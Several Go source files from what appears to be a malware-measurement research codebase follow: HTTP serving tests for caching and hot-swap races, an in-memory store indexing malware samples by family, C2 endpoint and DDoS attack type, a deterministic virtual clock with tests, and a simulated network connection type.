package serve

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"malnet/internal/obs/redplane"
)

// stampedeServer builds a Server over a synthetic store with an
// instrumented blocking endpoint: every computation increments
// computes, then parks on release. The handler is the real cached()
// pipeline — cache, singleflight, pooled encoding — with only the
// store scan stubbed out.
func stampedeServer(n int) (*Server, *Store) {
	st := BuildStore(syntheticSnapshot(n), nil)
	s := &Server{cache: map[string][]byte{}}
	s.store.Store(st)
	return s, st
}

// TestServeStampedeSingleFlight sends a thundering herd of identical
// queries against a cold generation and requires exactly one store
// scan: the leader computes, everyone else coalesces onto its flight
// and receives byte-identical bodies.
func TestServeStampedeSingleFlight(t *testing.T) {
	s, st := stampedeServer(100)
	var computes atomic.Int64
	release := make(chan struct{})
	h := s.cached("test", func(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
		computes.Add(1)
		<-release
		return map[string]any{"generation": st.Generation, "n": st.NumSamples()}, nil
	})

	const herd = 32
	req := httptest.NewRequest("GET", "/v1/test?family=mirai&day=3", nil)
	key := string(new(keyScratch).appendKey(st.Generation, req.URL.Path, req.URL.RawQuery))

	var wg sync.WaitGroup
	bodies := make([]string, herd)
	for i := 0; i < herd; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			w := httptest.NewRecorder()
			h.ServeHTTP(w, req)
			bodies[i] = w.Body.String()
		}(i)
	}

	// Wait until the whole herd is parked on the one flight (leader
	// included), so no request can arrive after the flight closes and
	// legitimately recompute.
	deadline := time.Now().Add(10 * time.Second)
	for s.flights.joined(key) != herd {
		if time.Now().After(deadline) {
			t.Fatalf("herd never assembled: %d/%d joined, %d computing",
				s.flights.joined(key), herd, computes.Load())
		}
		time.Sleep(time.Millisecond)
	}
	close(release)
	wg.Wait()

	if got := computes.Load(); got != 1 {
		t.Fatalf("cold stampede of %d identical queries ran %d store scans, want exactly 1", herd, got)
	}
	for i := 1; i < herd; i++ {
		if bodies[i] != bodies[0] {
			t.Fatalf("herd member %d got a different body:\n%s\nvs\n%s", i, bodies[i], bodies[0])
		}
	}
	if s.misses.Load() != 1 || s.coalesced.Load() != herd-1 {
		t.Fatalf("counters: misses=%d coalesced=%d, want 1/%d", s.misses.Load(), s.coalesced.Load(), herd-1)
	}

	// The herd's body is now cached: a straggler is a pure hit, still
	// one scan total.
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	if got := computes.Load(); got != 1 {
		t.Fatalf("post-herd request recomputed: %d store scans", got)
	}
	if s.hits.Load() != 1 {
		t.Fatalf("post-herd request did not hit the cache: hits=%d", s.hits.Load())
	}
}

// TestServeHotSwapMidFlight swaps the store while a flight against
// the old generation is still computing. The requests parked on that
// flight must come back with old-generation bodies, a request issued
// after the swap must start its own flight against the new
// generation, and the late old-generation result must not be cached
// into the new generation's working set.
func TestServeHotSwapMidFlight(t *testing.T) {
	s, stA := stampedeServer(100)
	stB := BuildStore(syntheticSnapshot(200), nil)
	if stA.Generation == stB.Generation {
		t.Fatal("fixture stores share a generation")
	}

	var computes atomic.Int64
	release := make(chan struct{})
	h := s.cached("test", func(st *Store, r *http.Request, sp *redplane.Span) (any, *httpError) {
		computes.Add(1)
		if st.Generation == stA.Generation {
			<-release
		}
		return map[string]any{"generation": st.Generation}, nil
	})
	req := httptest.NewRequest("GET", "/v1/test?family=mirai", nil)
	keyA := string(new(keyScratch).appendKey(stA.Generation, req.URL.Path, req.URL.RawQuery))

	gen := func(body string) string {
		var v struct {
			Generation string `json:"generation"`
		}
		if err := json.Unmarshal([]byte(body), &v); err != nil {
			t.Fatalf("decoding %q: %v", body, err)
		}
		return v.Generation
	}

	const herd = 8
	var wg sync.WaitGroup
	bodiesA := make([]string, herd)
	for i := 0; i < herd; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			w := httptest.NewRecorder()
			h.ServeHTTP(w, req)
			bodiesA[i] = w.Body.String()
		}(i)
	}
	deadline := time.Now().Add(10 * time.Second)
	for s.flights.joined(keyA) != herd {
		if time.Now().After(deadline) {
			t.Fatalf("old-generation herd never assembled: %d/%d", s.flights.joined(keyA), herd)
		}
		time.Sleep(time.Millisecond)
	}

	// Hot swap while the old-generation flight is mid-computation:
	// what Reload does, minus the checkpoint directory.
	s.store.Store(stB)
	s.mu.Lock()
	s.cache = map[string][]byte{}
	s.mu.Unlock()

	// A post-swap request resolves the new store, derives a new key,
	// and must not join the parked flight.
	w := httptest.NewRecorder()
	h.ServeHTTP(w, req)
	if g := gen(w.Body.String()); g != stB.Generation {
		t.Fatalf("post-swap request served generation %.12s, want new generation %.12s", g, stB.Generation)
	}
	if got := computes.Load(); got != 2 {
		t.Fatalf("post-swap request coalesced onto the old flight: %d computes, want 2", got)
	}

	close(release)
	wg.Wait()
	for i, b := range bodiesA {
		if g := gen(b); g != stA.Generation {
			t.Fatalf("pre-swap request %d served generation %.12s, want its snapshot %.12s", i, g, stA.Generation)
		}
	}

	// The old flight finished after the swap: its body must not have
	// been inserted into the (new-generation) cache.
	s.mu.Lock()
	_, staleCached := s.cache[keyA]
	n := len(s.cache)
	s.mu.Unlock()
	if staleCached {
		t.Fatal("old-generation body was cached after the swap")
	}
	if n != 1 {
		t.Fatalf("cache holds %d entries after swap, want 1 (the new generation's)", n)
	}
}

// TestServeHotSwapPaginationRace hammers paginating readers while
// another goroutine hot-swaps between two generations. Every response
// must be internally consistent — generation, total, and page all
// from one snapshot. Run under -race, this is the shared-state check
// for the cache, the flight group, and the pooled scratch.
func TestServeHotSwapPaginationRace(t *testing.T) {
	stores := []*Store{
		BuildStore(syntheticSnapshot(300), nil),
		BuildStore(syntheticSnapshot(500), nil),
	}
	totals := map[string]int{
		stores[0].Generation: 300,
		stores[1].Generation: 500,
	}
	s := &Server{cache: map[string][]byte{}}
	s.store.Store(stores[0])
	h := s.Handler()

	var stop atomic.Bool
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; !stop.Load(); i++ {
			s.store.Store(stores[i%2])
			s.mu.Lock()
			s.cache = map[string][]byte{}
			s.mu.Unlock()
			time.Sleep(100 * time.Microsecond)
		}
	}()

	const readers = 8
	errs := make(chan error, readers)
	var rwg sync.WaitGroup
	for r := 0; r < readers; r++ {
		rwg.Add(1)
		go func(r int) {
			defer rwg.Done()
			cursor := 0
			for i := 0; i < 400; i++ {
				w := httptest.NewRecorder()
				req := httptest.NewRequest("GET", fmt.Sprintf("/v1/samples?limit=7&cursor=%d", cursor), nil)
				h.ServeHTTP(w, req)
				if w.Code != http.StatusOK {
					errs <- fmt.Errorf("reader %d: status %d: %s", r, w.Code, w.Body.String())
					return
				}
				var page struct {
					Generation string `json:"generation"`
					Total      int    `json:"total"`
					Count      int    `json:"count"`
					NextCursor *int   `json:"next_cursor"`
					Samples    []struct {
						SHA string
					} `json:"samples"`
				}
				if err := json.Unmarshal(w.Body.Bytes(), &page); err != nil {
					errs <- fmt.Errorf("reader %d: decoding: %v", r, err)
					return
				}
				want, ok := totals[page.Generation]
				if !ok {
					errs <- fmt.Errorf("reader %d: unknown generation %q", r, page.Generation)
					return
				}
				// The response must be all one snapshot: the total
				// matches the generation it claims, and the page is
				// exactly the count it claims.
				if page.Total != want {
					errs <- fmt.Errorf("reader %d: generation %.12s reports total %d, want %d — mixed-generation response",
						r, page.Generation, page.Total, want)
					return
				}
				if len(page.Samples) != page.Count {
					errs <- fmt.Errorf("reader %d: count %d but %d samples", r, page.Count, len(page.Samples))
					return
				}
				if page.NextCursor == nil {
					cursor = 0
				} else {
					cursor = *page.NextCursor
				}
			}
		}(r)
	}

	rwg.Wait()
	stop.Store(true)
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}
