// Package serve is the read side of a MalNet study: it loads a
// checkpointed study into an immutable in-memory store with inverted
// indexes (per family, per collection day, per C2 endpoint, per
// attack type) and answers the daemon's JSON queries from those
// indexes — no query ever scans the full sample table. A Store is
// built once per snapshot generation and never mutated afterwards,
// which is what makes the hot-reload swap safe: in-flight requests
// keep reading the store they resolved at dispatch time while new
// requests see the freshly ingested one.
//
// The package deliberately never reads the wall clock (the repo's
// vettime lint holds it to the same rule as the pipeline); the
// daemon owns the reload ticker and calls Reload itself.
package serve

import (
	"sort"

	"malnet/internal/colstore"
	"malnet/internal/core"
	"malnet/internal/obs"
	"malnet/internal/results"
	"malnet/internal/world"
)

// Store is one snapshot generation, indexed for point lookups. All
// fields are write-once at build time; every accessor is safe for
// concurrent readers.
type Store struct {
	// Generation is the snapshot file's SHA-256 footer (hex) — the
	// cache key prefix and the client-visible snapshot id.
	Generation string
	// Day is the snapshot's study-day index; SkippedCorrupt counts
	// newer snapshots the loader passed over as corrupt.
	Day            int
	SkippedCorrupt int
	// Run names the lake run that committed this generation; empty in
	// single-directory mode. It labels the red plane's generation
	// counters, never response bodies — a lake-served snapshot stays
	// byte-identical to the same snapshot served from a directory.
	Run string

	samples  []*core.SampleRecord
	exploits []core.ExploitFinding
	ddos     []core.DDoSObservation
	c2s      map[string]*core.C2Record

	// Inverted indexes over samples (positions in feed order) and
	// attacks (positions in D-DDOS order).
	byFamily map[string][]int
	byDay    map[int][]int
	byC2     map[string][]int
	byAttack map[string][]int

	// Unfiltered position lists, built once so the no-filter fast
	// path (the most common load-test query) doesn't allocate a full
	// identity slice per request.
	allSamples []int
	allAttacks []int
	c2Addrs    []string

	// batch is the columnar mirror of the sample table: the /v1/query
	// engine's dictionary-encoded columns and kernels live in
	// internal/colstore; the row store keeps serving point lookups.
	batch *colstore.Batch

	headline results.Headlines
	metrics  results.MetricsSection
}

// BuildStore indexes a loaded snapshot. The registry carries the
// snapshot's reconstructed deterministic metrics (may be nil: the
// metrics section then reads all-zero).
func BuildStore(ss *core.StudySnapshot, reg *obs.Registry) *Store {
	ds := ss.Datasets
	s := &Store{
		Generation:     ss.Generation,
		Day:            ss.Day,
		SkippedCorrupt: ss.SkippedCorrupt,
		samples:        ds.Samples,
		exploits:       ds.Exploits,
		ddos:           ds.DDoS,
		c2s:            ds.C2s,
		byFamily:       map[string][]int{},
		byDay:          map[int][]int{},
		byC2:           map[string][]int{},
		byAttack:       map[string][]int{},
		headline:       results.HeadlinesFrom(ds),
		metrics:        results.MetricsSectionFrom(reg),
	}
	start := world.StudyStart()
	for i, rec := range s.samples {
		s.byFamily[rec.Family] = append(s.byFamily[rec.Family], i)
		day := int(rec.Date.Sub(start).Hours() / 24)
		s.byDay[day] = append(s.byDay[day], i)
		// A sample referencing the same endpoint twice still posts
		// one index entry.
		seen := map[string]bool{}
		for _, c := range rec.C2s {
			addr := c.Address
			if !seen[addr] {
				seen[addr] = true
				s.byC2[addr] = append(s.byC2[addr], i)
			}
		}
	}
	for i, o := range s.ddos {
		s.byAttack[o.Command.Attack.String()] = append(s.byAttack[o.Command.Attack.String()], i)
	}
	s.allSamples = make([]int, len(s.samples))
	for i := range s.allSamples {
		s.allSamples[i] = i
	}
	s.allAttacks = make([]int, len(s.ddos))
	for i := range s.allAttacks {
		s.allAttacks[i] = i
	}
	s.c2Addrs = make([]string, 0, len(s.c2s))
	for a := range s.c2s {
		s.c2Addrs = append(s.c2Addrs, a)
	}
	sort.Strings(s.c2Addrs)
	s.batch = colstore.Encode(s.samples)
	return s
}

// Batch is the store's columnar sample table, the /v1/query engine's
// scan target. Like every Store field it is write-once at build time.
func (s *Store) Batch() *colstore.Batch { return s.batch }

// SampleQuery is the /v1/samples filter: zero-valued fields don't
// constrain. Day is a study-day index; -1 means any day.
type SampleQuery struct {
	Family string
	Day    int
	C2     string
}

// Samples returns the feed-order positions matching q. The returned
// slice aliases the index — callers must not mutate it.
func (s *Store) Samples(q SampleQuery) []int {
	// Intersect the narrowest applicable indexes. Each index is
	// sorted (built in feed order), so intersection preserves order.
	var lists [][]int
	if q.Family != "" {
		lists = append(lists, s.byFamily[q.Family])
	}
	if q.Day >= 0 {
		lists = append(lists, s.byDay[q.Day])
	}
	if q.C2 != "" {
		lists = append(lists, s.byC2[q.C2])
	}
	if len(lists) == 0 {
		return s.allSamples
	}
	out := lists[0]
	for _, l := range lists[1:] {
		out = intersect(out, l)
	}
	return out
}

// intersect merges two ascending position lists.
func intersect(a, b []int) []int {
	var out []int
	i, j := 0, 0
	for i < len(a) && j < len(b) {
		switch {
		case a[i] == b[j]:
			out = append(out, a[i])
			i++
			j++
		case a[i] < b[j]:
			i++
		default:
			j++
		}
	}
	return out
}

// Sample returns the record at feed position i.
func (s *Store) Sample(i int) *core.SampleRecord { return s.samples[i] }

// NumSamples is the store's D-Samples size.
func (s *Store) NumSamples() int { return len(s.samples) }

// C2 returns the record for addr together with the feed positions of
// the samples that reference it.
func (s *Store) C2(addr string) (*core.C2Record, []int) {
	return s.c2s[addr], s.byC2[addr]
}

// C2Addresses lists every known endpoint, sorted. The returned slice
// is the store's own — callers must not mutate it.
func (s *Store) C2Addresses() []string { return s.c2Addrs }

// Attacks returns the D-DDOS positions for an attack type, or every
// position when typ is empty.
func (s *Store) Attacks(typ string) []int {
	if typ == "" {
		return s.allAttacks
	}
	return s.byAttack[typ]
}

// Attack returns the observation at D-DDOS position i.
func (s *Store) Attack(i int) core.DDoSObservation { return s.ddos[i] }

// AttackTypes lists the attack types present, sorted.
func (s *Store) AttackTypes() []string {
	out := make([]string, 0, len(s.byAttack))
	for t := range s.byAttack {
		out = append(out, t)
	}
	sort.Strings(out)
	return out
}

// Families lists the sample families present, sorted.
func (s *Store) Families() []string {
	out := make([]string, 0, len(s.byFamily))
	for f := range s.byFamily {
		out = append(out, f)
	}
	sort.Strings(out)
	return out
}

// FamilySamples reports how many D-Samples rows carry the family.
func (s *Store) FamilySamples(family string) int { return len(s.byFamily[family]) }

// Headline is the snapshot's precomputed headline findings.
func (s *Store) Headline() results.Headlines { return s.headline }

// Metrics is the snapshot's precomputed metrics section.
func (s *Store) Metrics() results.MetricsSection { return s.metrics }

// Sizes reports the four dataset sizes (the /v1/headline banner).
func (s *Store) Sizes() (samples, c2s, exploits, ddos int) {
	return len(s.samples), len(s.c2s), len(s.exploits), len(s.ddos)
}
