// Package simclock provides a deterministic discrete-event virtual clock.
//
// Every time-dependent component in the simulation (hosts, bots, C2
// servers, the measurement pipeline) schedules callbacks on a single
// Clock instead of using the time package. Advancing the clock fires
// callbacks in strict timestamp order, with a monotonically increasing
// sequence number breaking ties, so a run with a fixed seed is fully
// reproducible.
//
// The zero Clock starts at the Unix epoch; use New to pick a study
// start date.
//
// A Clock is owned by exactly one goroutine at a time. The simulation
// may contain many clocks — the study executor gives every sandbox
// shard a private clock next to the shared world clock — but each one
// must only ever be advanced by its owning goroutine. Ownership may
// move between goroutines (a worker hands its shard's results back to
// the merger) provided the handoff itself synchronizes, e.g. via a
// channel send or WaitGroup.
package simclock

import (
	"container/heap"
	"fmt"
	"time"
)

// EventID identifies a scheduled event so it can be cancelled.
// The zero EventID is never issued.
type EventID uint64

// event is a single scheduled callback.
type event struct {
	at  time.Time
	seq uint64 // tie-breaker: FIFO among equal timestamps
	id  EventID
	fn  func()

	index int // heap index, maintained by eventQueue
}

// eventQueue is a min-heap ordered by (at, seq).
type eventQueue []*event

func (q eventQueue) Len() int { return len(q) }

func (q eventQueue) Less(i, j int) bool {
	if !q[i].at.Equal(q[j].at) {
		return q[i].at.Before(q[j].at)
	}
	return q[i].seq < q[j].seq
}

func (q eventQueue) Swap(i, j int) {
	q[i], q[j] = q[j], q[i]
	q[i].index = i
	q[j].index = j
}

func (q *eventQueue) Push(x any) {
	e := x.(*event)
	e.index = len(*q)
	*q = append(*q, e)
}

func (q *eventQueue) Pop() any {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	e.index = -1
	*q = old[:n-1]
	return e
}

// Clock is a discrete-event virtual clock. It is not safe for
// concurrent use: the simulation is single-threaded by design, which
// is what makes runs reproducible.
type Clock struct {
	now     time.Time
	queue   eventQueue
	nextSeq uint64
	nextID  EventID
	live    map[EventID]*event
	running bool
}

// New returns a Clock whose current time is start.
func New(start time.Time) *Clock {
	return &Clock{now: start, live: make(map[EventID]*event)}
}

// Now returns the current virtual time.
func (c *Clock) Now() time.Time { return c.now }

// Schedule registers fn to run at time at. Scheduling in the past (or
// exactly now) fires on the next Step. It returns an id usable with
// Cancel.
func (c *Clock) Schedule(at time.Time, fn func()) EventID {
	if fn == nil {
		panic("simclock: Schedule with nil callback")
	}
	if at.Before(c.now) {
		at = c.now
	}
	c.nextSeq++
	c.nextID++
	e := &event{at: at, seq: c.nextSeq, id: c.nextID, fn: fn}
	if c.live == nil {
		c.live = make(map[EventID]*event)
	}
	heap.Push(&c.queue, e)
	c.live[e.id] = e
	return e.id
}

// After registers fn to run d from now. Negative d is treated as zero.
func (c *Clock) After(d time.Duration, fn func()) EventID {
	return c.Schedule(c.now.Add(d), fn)
}

// Cancel removes a scheduled event. It reports whether the event was
// still pending.
func (c *Clock) Cancel(id EventID) bool {
	e, ok := c.live[id]
	if !ok {
		return false
	}
	delete(c.live, id)
	heap.Remove(&c.queue, e.index)
	return true
}

// Pending returns the number of scheduled events.
func (c *Clock) Pending() int { return len(c.queue) }

// NextAt returns the timestamp of the earliest pending event. The
// second result is false when the queue is empty.
func (c *Clock) NextAt() (time.Time, bool) {
	if len(c.queue) == 0 {
		return time.Time{}, false
	}
	return c.queue[0].at, true
}

// Step fires the earliest pending event, advancing Now to its
// timestamp. It reports whether an event fired.
func (c *Clock) Step() bool {
	if len(c.queue) == 0 {
		return false
	}
	e := heap.Pop(&c.queue).(*event)
	delete(c.live, e.id)
	c.now = e.at
	e.fn()
	return true
}

// RunUntil fires events in order until the queue is exhausted or the
// next event is after deadline, then advances Now to deadline. Events
// scheduled while running are honored if they fall before deadline.
// It returns the number of events fired.
func (c *Clock) RunUntil(deadline time.Time) int {
	if c.running {
		panic("simclock: re-entrant RunUntil")
	}
	c.running = true
	defer func() { c.running = false }()

	fired := 0
	for len(c.queue) > 0 && !c.queue[0].at.After(deadline) {
		c.Step()
		fired++
	}
	if c.now.Before(deadline) {
		c.now = deadline
	}
	return fired
}

// Reset discards every pending event and rewinds (or advances) Now to
// start, returning the clock to its freshly-constructed state. Shard
// owners use it to re-anchor a private clock between sandbox runs so
// stale callbacks from an earlier sample can never fire into a later
// one. Resetting while RunUntil is on the stack panics.
func (c *Clock) Reset(start time.Time) {
	if c.running {
		panic("simclock: Reset during RunUntil")
	}
	c.now = start
	c.queue = nil
	c.live = make(map[EventID]*event)
}

// RunBudget is RunUntil with an event budget: it fires at most
// maxEvents events (maxEvents <= 0 means unlimited), stopping early
// with exhausted=true once the budget is spent. On early stop, Now
// stays at the last fired event's timestamp so the caller can see how
// far the run got before its watchdog tripped; pending events remain
// queued for the caller to abort, Reset, or resume. The sandbox uses
// this to bound hung activations — an emulation stuck in a
// self-rescheduling storm burns its budget long before the analysis
// window's deadline.
func (c *Clock) RunBudget(deadline time.Time, maxEvents int) (fired int, exhausted bool) {
	if c.running {
		panic("simclock: re-entrant RunBudget")
	}
	c.running = true
	defer func() { c.running = false }()

	for len(c.queue) > 0 && !c.queue[0].at.After(deadline) {
		if maxEvents > 0 && fired >= maxEvents {
			return fired, true
		}
		c.Step()
		fired++
	}
	if c.now.Before(deadline) {
		c.now = deadline
	}
	return fired, false
}

// RunFor is RunUntil(Now().Add(d)).
func (c *Clock) RunFor(d time.Duration) int { return c.RunUntil(c.now.Add(d)) }

// Drain fires every pending event (including ones scheduled while
// draining) up to limit events, returning the number fired. A limit
// of 0 means no limit. Drain panics if limit is exceeded, which
// indicates a runaway self-rescheduling loop.
func (c *Clock) Drain(limit int) int {
	fired := 0
	for c.Step() {
		fired++
		if limit > 0 && fired > limit {
			panic(fmt.Sprintf("simclock: Drain exceeded %d events", limit))
		}
	}
	return fired
}
