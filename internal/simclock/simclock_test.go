package simclock

import (
	"testing"
	"testing/quick"
	"time"
)

var t0 = time.Date(2021, 3, 1, 0, 0, 0, 0, time.UTC)

func TestNowStartsAtConstructorTime(t *testing.T) {
	c := New(t0)
	if !c.Now().Equal(t0) {
		t.Fatalf("Now() = %v, want %v", c.Now(), t0)
	}
}

func TestScheduleFiresInTimestampOrder(t *testing.T) {
	c := New(t0)
	var got []int
	c.After(3*time.Hour, func() { got = append(got, 3) })
	c.After(1*time.Hour, func() { got = append(got, 1) })
	c.After(2*time.Hour, func() { got = append(got, 2) })
	c.Drain(0)
	want := []int{1, 2, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("fire order %v, want %v", got, want)
		}
	}
}

func TestEqualTimestampsFireFIFO(t *testing.T) {
	c := New(t0)
	var got []int
	at := t0.Add(time.Minute)
	for i := 0; i < 10; i++ {
		i := i
		c.Schedule(at, func() { got = append(got, i) })
	}
	c.Drain(0)
	for i := range got {
		if got[i] != i {
			t.Fatalf("FIFO violated: %v", got)
		}
	}
}

func TestStepAdvancesNow(t *testing.T) {
	c := New(t0)
	c.After(90*time.Minute, func() {})
	if !c.Step() {
		t.Fatal("Step returned false with pending event")
	}
	if want := t0.Add(90 * time.Minute); !c.Now().Equal(want) {
		t.Fatalf("Now() = %v, want %v", c.Now(), want)
	}
}

func TestSchedulePastClampsToNow(t *testing.T) {
	c := New(t0)
	fired := false
	c.Schedule(t0.Add(-time.Hour), func() { fired = true })
	at, ok := c.NextAt()
	if !ok || !at.Equal(t0) {
		t.Fatalf("NextAt() = %v, %v; want %v, true", at, ok, t0)
	}
	c.Step()
	if !fired {
		t.Fatal("past-scheduled event did not fire")
	}
	if !c.Now().Equal(t0) {
		t.Fatalf("Now moved backwards: %v", c.Now())
	}
}

func TestCancelPreventsFiring(t *testing.T) {
	c := New(t0)
	fired := false
	id := c.After(time.Hour, func() { fired = true })
	if !c.Cancel(id) {
		t.Fatal("Cancel returned false for pending event")
	}
	if c.Cancel(id) {
		t.Fatal("second Cancel returned true")
	}
	c.Drain(0)
	if fired {
		t.Fatal("cancelled event fired")
	}
}

func TestCancelMiddleOfHeapKeepsOrder(t *testing.T) {
	c := New(t0)
	var got []int
	ids := make([]EventID, 5)
	for i := 0; i < 5; i++ {
		i := i
		ids[i] = c.After(time.Duration(i+1)*time.Minute, func() { got = append(got, i) })
	}
	c.Cancel(ids[2])
	c.Drain(0)
	want := []int{0, 1, 3, 4}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %v", got, want)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v, want %v", got, want)
		}
	}
}

func TestRunUntilStopsAtDeadlineAndAdvances(t *testing.T) {
	c := New(t0)
	var fired []time.Duration
	for _, d := range []time.Duration{time.Hour, 2 * time.Hour, 26 * time.Hour} {
		d := d
		c.After(d, func() { fired = append(fired, d) })
	}
	n := c.RunUntil(t0.Add(24 * time.Hour))
	if n != 2 {
		t.Fatalf("RunUntil fired %d events, want 2", n)
	}
	if !c.Now().Equal(t0.Add(24 * time.Hour)) {
		t.Fatalf("Now() = %v, want deadline", c.Now())
	}
	if c.Pending() != 1 {
		t.Fatalf("Pending() = %d, want 1", c.Pending())
	}
}

func TestRunUntilHonorsEventsScheduledWhileRunning(t *testing.T) {
	c := New(t0)
	var got []string
	c.After(time.Hour, func() {
		got = append(got, "a")
		c.After(time.Hour, func() { got = append(got, "b") })
	})
	c.RunFor(3 * time.Hour)
	if len(got) != 2 || got[0] != "a" || got[1] != "b" {
		t.Fatalf("got %v, want [a b]", got)
	}
}

func TestDrainLimitPanicsOnRunaway(t *testing.T) {
	c := New(t0)
	var reschedule func()
	reschedule = func() { c.After(time.Second, reschedule) }
	c.After(time.Second, reschedule)
	defer func() {
		if recover() == nil {
			t.Fatal("Drain did not panic on runaway loop")
		}
	}()
	c.Drain(100)
}

func TestScheduleNilPanics(t *testing.T) {
	c := New(t0)
	defer func() {
		if recover() == nil {
			t.Fatal("Schedule(nil) did not panic")
		}
	}()
	c.Schedule(t0, nil)
}

// Property: for any set of non-negative offsets, events fire in
// non-decreasing timestamp order and Now never moves backwards.
func TestQuickFiringOrderMonotonic(t *testing.T) {
	f := func(offsets []uint16) bool {
		c := New(t0)
		for _, off := range offsets {
			c.After(time.Duration(off)*time.Second, func() {})
		}
		prev := c.Now()
		for c.Step() {
			if c.Now().Before(prev) {
				return false
			}
			prev = c.Now()
		}
		return c.Pending() == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: Drain fires exactly as many events as were scheduled when
// callbacks do not reschedule.
func TestQuickDrainCountsAllEvents(t *testing.T) {
	f := func(offsets []uint8) bool {
		c := New(t0)
		for _, off := range offsets {
			c.After(time.Duration(off)*time.Minute, func() {})
		}
		return c.Drain(0) == len(offsets)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Reset must return the clock to a clean slate: no pending events, no
// surviving callbacks, Now moved to the new anchor even when that is
// backwards — exactly what shard reuse between sandbox runs needs.
func TestResetClearsQueueAndRewinds(t *testing.T) {
	c := New(t0)
	fired := 0
	c.After(time.Minute, func() { fired++ })
	c.After(2*time.Minute, func() { fired++ })
	c.RunFor(90 * time.Second)
	if fired != 1 {
		t.Fatalf("fired = %d before reset, want 1", fired)
	}

	c.Reset(t0.Add(-24 * time.Hour))
	if got := c.Now(); !got.Equal(t0.Add(-24 * time.Hour)) {
		t.Fatalf("Now after reset = %v, want %v", got, t0.Add(-24*time.Hour))
	}
	if c.Pending() != 0 {
		t.Fatalf("pending = %d after reset, want 0", c.Pending())
	}
	c.RunFor(time.Hour)
	if fired != 1 {
		t.Fatalf("stale event fired after reset (fired = %d)", fired)
	}

	// The reset clock schedules and cancels like a fresh one.
	id := c.After(time.Minute, func() { fired += 10 })
	if !c.Cancel(id) {
		t.Fatal("cancel after reset failed")
	}
	c.After(time.Minute, func() { fired += 100 })
	c.RunFor(2 * time.Minute)
	if fired != 101 {
		t.Fatalf("fired = %d after reset schedule, want 101", fired)
	}
}

// Resetting mid-run would yank events out from under the dispatch
// loop; the clock must refuse.
func TestResetDuringRunPanics(t *testing.T) {
	c := New(t0)
	c.After(time.Minute, func() {
		defer func() {
			if recover() == nil {
				t.Error("Reset during RunUntil did not panic")
			}
		}()
		c.Reset(t0)
	})
	c.RunFor(2 * time.Minute)
}

// TestRunBudgetStopsAtBudget: the budgeted run fires exactly
// maxEvents, leaves Now at the last fired event, and keeps the rest
// of the queue intact for the caller to abort or resume.
func TestRunBudgetStopsAtBudget(t *testing.T) {
	c := New(t0)
	var fired []int
	for i := 0; i < 10; i++ {
		i := i
		c.Schedule(t0.Add(time.Duration(i+1)*time.Second), func() { fired = append(fired, i) })
	}
	n, exhausted := c.RunBudget(t0.Add(time.Minute), 4)
	if !exhausted || n != 4 {
		t.Fatalf("RunBudget = (%d, %v), want (4, true)", n, exhausted)
	}
	if len(fired) != 4 || fired[3] != 3 {
		t.Fatalf("fired = %v, want the first 4 events in order", fired)
	}
	if got := c.Now(); !got.Equal(t0.Add(4 * time.Second)) {
		t.Fatalf("Now = %v, want the 4th event's timestamp", got)
	}
	if c.Pending() != 6 {
		t.Fatalf("Pending = %d, want the 6 unfired events", c.Pending())
	}

	// Resuming with room to spare drains the rest and reaches the
	// deadline like a plain RunUntil.
	n, exhausted = c.RunBudget(t0.Add(time.Minute), 100)
	if exhausted || n != 6 {
		t.Fatalf("resumed RunBudget = (%d, %v), want (6, false)", n, exhausted)
	}
	if !c.Now().Equal(t0.Add(time.Minute)) {
		t.Fatalf("Now = %v, want the deadline", c.Now())
	}
}

// TestRunBudgetUnlimited: maxEvents <= 0 behaves exactly like
// RunUntil.
func TestRunBudgetUnlimited(t *testing.T) {
	c := New(t0)
	count := 0
	for i := 0; i < 10; i++ {
		c.Schedule(t0.Add(time.Duration(i)*time.Second), func() { count++ })
	}
	n, exhausted := c.RunBudget(t0.Add(time.Minute), 0)
	if exhausted || n != 10 || count != 10 {
		t.Fatalf("unlimited RunBudget = (%d, %v), count %d", n, exhausted, count)
	}
}

// TestRunBudgetCountsSelfRescheduling: a runaway self-rescheduling
// event cannot outrun the budget — the watchdog's core guarantee.
func TestRunBudgetCountsSelfRescheduling(t *testing.T) {
	c := New(t0)
	var loop func()
	loop = func() { c.After(time.Millisecond, loop) }
	c.After(0, loop)
	n, exhausted := c.RunBudget(t0.Add(24*time.Hour), 1000)
	if !exhausted || n != 1000 {
		t.Fatalf("RunBudget = (%d, %v), want (1000, true)", n, exhausted)
	}
}
