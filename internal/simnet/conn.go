package simnet

import (
	"time"

	"malnet/internal/faultinject"
)

// connState tracks a Conn through its lifecycle.
type connState uint8

const (
	stateConnecting connState = iota
	stateEstablished
	stateClosed
)

// Conn is one side of an established (or establishing) TCP-like
// connection. All methods must be called from the event loop.
type Conn struct {
	net     *Network
	host    *Host
	local   Addr
	remote  Addr
	handler ConnHandler
	peer    *Conn
	state   connState
	id      uint64

	// Stats observed by this side.
	bytesIn  int
	bytesOut int
	opened   time.Time

	// Injected-fault schedule, decided once at dial time and shared
	// (by value) with the accepting side. fSrc/fDst/fSeq are the
	// dialer-relative fault-plan coordinates; fDir is "out" on the
	// dialing side and "in" on the accepting side; fSeg counts data
	// segments this side has attempted to send.
	faults faultinject.ConnFaults
	fSrc   string
	fDst   string
	fSeq   uint64
	fDir   string
	fSeg   int
}

// LocalAddr returns this side's address.
func (c *Conn) LocalAddr() Addr { return c.local }

// RemoteAddr returns the peer's address.
func (c *Conn) RemoteAddr() Addr { return c.remote }

// Established reports whether the connection completed its handshake
// and has not closed.
func (c *Conn) Established() bool { return c.state == stateEstablished }

// BytesIn returns payload bytes received so far.
func (c *Conn) BytesIn() int { return c.bytesIn }

// BytesOut returns payload bytes sent so far.
func (c *Conn) BytesOut() int { return c.bytesOut }

